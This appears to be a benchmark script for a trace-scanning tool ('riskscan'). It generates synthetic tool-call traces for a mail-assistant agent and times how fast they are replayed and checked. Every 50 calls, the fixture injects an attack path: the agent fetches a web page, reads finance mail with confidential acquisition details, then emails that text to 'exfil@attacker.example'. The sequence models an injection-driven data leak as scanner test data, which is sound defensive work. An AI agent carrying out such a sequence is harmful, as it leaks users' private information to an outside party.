"""Trace replay throughput (a script, not a test): `python bench/trace_replay.py [EVENTS]`.

Writes an OpenAI-messages JSON Lines trace of EVENTS tool calls (default 100,000; each call is an
assistant message plus its tool result, so twice as many lines) over the mail-assistant fixture
model: one conversation cycling through the tools, with results of a few
hundred characters and an injected path every 50 calls, then times reading and replaying it.
"""

from __future__ import annotations

import json
import os
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from riskscan.trace import check_traces, load_model  # noqa: E402
from riskscan.trace.read import read_trace  # noqa: E402

REPORT = Path(__file__).resolve().parents[1] / "fixtures" / "traces" / "mail-assistant.report.json"
CYCLE = [
    ("lookup_order", {"order_id": "1042"}, "order 1042: shipped " * 10),
    ("fetch_page", {"url": "https://blog.example.net/post"}, "A page with a lot of words about gardening. " * 8),
    ("read_inbox", {"folder": "finance"}, "Revenue 4.2M, acquisition of Globex closes on 12 March. " * 6),
    ("send_email", {"to": "exfil@attacker.example", "body": "Revenue 4.2M, acquisition of Globex closes on 12 March."}, "sent"),
]


def write_trace(path: str, events: int) -> None:
    with open(path, "w", encoding="utf-8") as handle:
        for number in range(events):
            name, arguments, result = CYCLE[number % len(CYCLE)] if number % 50 < 4 else CYCLE[0]
            call = {"id": f"call_{number}", "type": "function", "function": {"name": name, "arguments": json.dumps(arguments)}}
            handle.write(json.dumps({"role": "assistant", "content": None, "tool_calls": [call]}) + "\n")
            handle.write(json.dumps({"role": "tool", "tool_call_id": f"call_{number}", "content": result}) + "\n")


def main() -> None:
    events = int(sys.argv[1]) if len(sys.argv) > 1 else 100_000
    model = load_model(str(REPORT))
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "run.jsonl")
        write_trace(path, events)
        size = os.path.getsize(path)
        start = time.perf_counter()
        trace = read_trace(path)
        read = time.perf_counter() - start
        start = time.perf_counter()
        report = check_traces([path], model)
        total = time.perf_counter() - start
    calls = dict(report.stats)["calls"]
    paths = dict(report.stats)["paths"]
    print(f"trace: {events:,} tool calls ({2 * events:,} JSON lines, {size / 1e6:.1f} MB); {len(trace.events):,} events read")
    print(f"read only: {read:.2f} s ({len(trace.events) / read:,.0f} events/s)")
    print(f"read + replay + findings: {total:.2f} s ({calls / total:,.0f} calls/s), {paths:,} path findings")


if __name__ == "__main__":
    main()
